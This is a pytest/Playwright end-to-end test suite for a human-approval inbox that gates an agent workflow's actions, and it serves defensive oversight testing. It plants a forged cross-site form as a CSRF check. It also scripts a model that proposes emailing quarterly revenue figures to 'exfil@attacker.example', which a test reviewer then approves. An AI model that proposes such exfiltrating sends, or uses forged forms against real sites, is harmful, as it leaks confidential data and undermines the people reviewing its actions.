"""End to end in headless Chromium: the inbox served by uvicorn, the dev server, a worker, and a real
webhook receiver for the delivery."""

from __future__ import annotations

import os
import uuid
from pathlib import Path

import pytest
from playwright.async_api import Browser, Locator, Page, expect
from temporalio.client import Client, WorkflowExecutionStatus

from activities.llm.models import TextBlock, ToolUseBlock
from common.settings import Settings
from inbox.app import targets_first
from inbox.runs import AWAITING_APPROVAL
from tests.fakes.receivers import HttpReceiver
from tests.inbox.conftest import PASSWORDS
from tests.inbox.pending import TOPIC, listed_as_pending, start_pending_research
from tests.workflow.doubles import Recorder, ScriptedModel
from tests.workflow.support import pending_approval, worker_with
from worker.app import build_worker
from workflows.agent import AgentWorkflow
from workflows.models import AgentInput, ApprovalDecision, PendingApproval, WorkflowStatus

pytestmark = pytest.mark.browser
# `INBOX_SCREENSHOT=docs/inbox.png pytest tests/inbox -k approves` refreshes the docs' screenshot.
SCREENSHOT = os.environ.get("INBOX_SCREENSHOT")


async def sign_in(page: Page, inbox_url: str, name: str) -> None:
    await page.goto(f"{inbox_url}/")
    assert "/login" in page.url
    await page.fill("input[name=username]", name)
    await page.fill("input[name=password]", PASSWORDS[name])
    await page.click("form.login button[type=submit]")
    assert await page.inner_text("[data-testid=reviewer]") == name


async def expect_complete_action(cell: Locator, pending: PendingApproval) -> None:
    """The action as the workflow proposed it: the title, then every field's value, whole."""
    if pending.proposed is None:
        await expect(cell.locator("[data-testid=action]")).to_have_text(pending.action)
        return
    await expect(cell.locator("[data-testid=action-title]")).to_have_text(pending.proposed.title)
    values = cell.locator("pre.value")
    assert await values.all_text_contents() == [field.value for field in targets_first(pending.proposed)]


async def test_without_a_session_nothing_is_shown_and_nothing_is_accepted(
    browser: Browser, inbox_url: str
) -> None:
    context = await browser.new_context()
    try:
        page = await context.new_page()
        response = await page.goto(f"{inbox_url}/runs/research-anything")
        assert response is not None and response.ok
        assert page.url == f"{inbox_url}/login?next=%2Fruns%2Fresearch-anything"
        assert await page.inner_text("h1") == "Sign in"

        # A form POST without a session (the browser's own cookie jar, no sign-in) is refused.
        token = await page.get_attribute("form.login input[name=csrf_token]", "value")
        refused = await context.request.post(
            f"{inbox_url}/decisions",
            form={"csrf_token": token or "", "workflow_id": "research-anything", "decision": "approve"},
            headers={"origin": inbox_url},
        )
        assert refused.status == 403
        assert "Sign in first" in await refused.text()

        # Signed in, a form planted on another page (cross-site) is refused too.
        await sign_in(page, inbox_url, "alice")
        await page.set_content(
            f'<form method="post" action="{inbox_url}/decisions">'
            '<input name="workflow_id" value="research-anything"><input name="decision" value="approve">'
            '<button id="forged">go</button></form>'
        )
        async with page.expect_navigation():
            await page.click("#forged")
        assert "Cannot do that" in await page.inner_text("h1")
        await page.goto(f"{inbox_url}/")
        assert await page.inner_text("[data-testid=reviewer]") == "alice"  # still signed in here
    finally:
        await context.close()


async def test_reviewer_approves_a_pending_research_run_which_then_delivers(
    browser: Browser, inbox_url: str, dev_client: Client, settings: Settings, http_receiver: HttpReceiver
) -> None:
    async with build_worker(dev_client, settings):
        handle = await start_pending_research(dev_client, settings, http_receiver)
        pending = (await handle.query("status", result_type=WorkflowStatus)).pending_approval
        assert pending is not None
        context = await browser.new_context(viewport={"width": 1280, "height": 720})
        try:
            page = await context.new_page()
            await sign_in(page, inbox_url, "alice")
            row = page.locator(f'tr[data-workflow-id="{handle.id}"]')
            await expect_complete_action(row.locator("td.action"), pending)
            await expect(row.locator(".goal")).to_have_text(TOPIC)
            await expect(row.locator("ul.approvers li.me")).to_have_text("alice")
            await expect(row.locator("td.left")).to_contain_text("left")
            web_ui = await row.locator("a.webui").get_attribute("href")
            assert web_ui is not None and f"/workflows/{handle.id}/" in web_ui
            if SCREENSHOT:
                await page.screenshot(path=Path(SCREENSHOT), full_page=True)

            await row.locator("textarea[name=comment]").fill("Checked the sources, ship it")
            await row.locator("button.approve").click()
            await expect(page.locator("[data-testid=flash]")).to_contain_text("Approved as alice")

            result = await handle.result()
            assert result.outcome == "completed"
            assert result.approval is not None
            assert (result.approval.approver, result.approval.via, result.approval.comment) == (
                "alice",
                "update",
                "Checked the sources, ship it",
            )
            assert result.delivery is not None and result.delivery.channel == "webhook"
            assert http_receiver.accepted_count(result.delivery.idempotency_key) == 1
            [delivered] = http_receiver.accepted
            assert delivered.path == "/reports"

            # The run's page shows it finished, with the decision among its steps.
            await page.reload()
            await expect(page.locator("[data-testid=execution-status]")).to_have_text("Completed")
            await expect(page.locator("table.steps")).to_contain_text("approved by alice via update")
            await page.goto(f"{inbox_url}/")
            await expect(page.locator(f'tr[data-workflow-id="{handle.id}"]')).to_have_count(0)
        finally:
            await context.close()


async def test_reviewer_not_among_the_approvers_sees_the_workflows_refusal(
    browser: Browser, inbox_url: str, dev_client: Client, settings: Settings, http_receiver: HttpReceiver
) -> None:
    async with build_worker(dev_client, settings):
        handle = await start_pending_research(dev_client, settings, http_receiver)
        context = await browser.new_context()
        try:
            page = await context.new_page()
            await sign_in(page, inbox_url, "bob")
            await page.goto(f"{inbox_url}/runs/{handle.id}")
            await expect(page.locator("[data-testid=proposed]")).to_contain_text(http_receiver.url)
            await expect(page.locator(".hint")).to_contain_text("not among this run's approvers")
            await page.locator("button.approve").click()
            flash = page.locator("[data-testid=flash]")
            await expect(flash).to_have_text(
                "The workflow refused the decision: 'bob' is not an approver of this run"
            )
            await expect(flash).to_have_class("flash bad")

            status = await handle.query("status", result_type=WorkflowStatus)
            assert status.phase == AWAITING_APPROVAL and status.pending_approval is not None
            assert status.decisions == []

            # The refusal left the request open: an approver can still decide (and here rejects).
            await handle.execute_update(
                "approve", ApprovalDecision(approver="alice", approved=False, comment="not now")
            )
            result = await handle.result()
            assert result.outcome == "rejected" and result.delivery is None
            assert http_receiver.requests == []
        finally:
            await context.close()
            if (await handle.describe()).status == WorkflowExecutionStatus.RUNNING:
                await handle.terminate("test failed before the run ended")


RECIPIENT = "exfil@attacker.example"
LONG_BODY = "".join(f"Quarterly numbers, line {i}: revenue up, costs down.\n" for i in range(50))


async def update_inputs(client: Client, workflow_id: str) -> list[ApprovalDecision]:
    """What the `approve` Updates of a run received, from its history (not from the inbox)."""
    received = []
    async for event in client.get_workflow_handle(workflow_id).fetch_history_events():
        if event.HasField("workflow_execution_update_accepted_event_attributes"):
            request = event.workflow_execution_update_accepted_event_attributes.accepted_request
            if request.input.name != "approve":
                continue  # a session's messages (`send`) are Updates too
            [decision] = await client.data_converter.decode(
                list(request.input.args.payloads), [ApprovalDecision]
            )
            received.append(decision)
    return received


async def test_a_pending_email_shows_its_recipient_and_whole_body_and_the_decision_carries_the_hash(
    browser: Browser, inbox_url: str, dev_client: Client, settings: Settings
) -> None:
    """A model proposes send_email with a 2,000+ character body; `body` sorts before `to`."""
    assert len(LONG_BODY) > 2000 and "body" < "to"
    model = ScriptedModel(
        [
            [
                ToolUseBlock(
                    id="call-1",
                    name="send_email",
                    input={"body": LONG_BODY, "subject": "numbers", "to": RECIPIENT},
                )
            ],
            [TextBlock(text="sent")],
        ]
    )
    recorder = Recorder()
    params = AgentInput(goal="mail the quarterly numbers", tools=["send_email"], approvers=["alice"])
    async with worker_with(dev_client, settings, [model.complete, *recorder.activities()]):
        handle = await dev_client.start_workflow(
            AgentWorkflow.run, params, id=f"agent-{uuid.uuid4().hex}", task_queue=settings.temporal_task_queue
        )
        pending = (await pending_approval(handle)).pending_approval
        assert pending is not None and pending.proposed is not None
        await listed_as_pending(dev_client, handle.id)
        context = await browser.new_context(viewport={"width": 1280, "height": 720})
        try:
            page = await context.new_page()
            await sign_in(page, inbox_url, "alice")
            row = page.locator(f'tr[data-workflow-id="{handle.id}"]')
            await expect(row.locator("dd.target pre")).to_have_text(RECIPIENT)
            await expect(row.locator("dd.target pre")).to_be_visible()

            await page.goto(f"{inbox_url}/runs/{handle.id}")
            proposed = page.locator("[data-testid=proposed]")
            await expect(proposed.locator("[data-testid=action-title]")).to_have_text(
                f"send_email to {RECIPIENT}"
            )
            assert await proposed.locator("dt").all_text_contents() == ["to", "body", "subject"]
            recipient = proposed.locator('dd[data-field="to"] pre')
            await expect(recipient).to_have_text(RECIPIENT)
            await expect(recipient).to_be_visible()  # the first thing under the title, never folded
            body = proposed.locator('dd[data-field="body"] pre')
            assert await body.text_content() == LONG_BODY  # whole, every line
            await expect(body).to_be_visible()
            shown_hash = await page.inner_text("[data-testid=action-hash]")
            assert shown_hash == pending.action_hash

            await page.locator("button.approve").click()
            await expect(page.locator("[data-testid=flash]")).to_contain_text("Approved as alice")
            await handle.result()
        finally:
            await context.close()
            if (await handle.describe()).status == WorkflowExecutionStatus.RUNNING:
                await handle.terminate("test failed before the run ended")
    [received] = await update_inputs(dev_client, handle.id)
    assert (received.approver, received.approved, received.action_hash) == (
        "alice",
        True,
        pending.action_hash,
    )
    [(tool, sent)] = recorder.side_effects
    assert (tool, sent.arguments["to"], sent.arguments["body"]) == ("send_email", RECIPIENT, LONG_BODY)
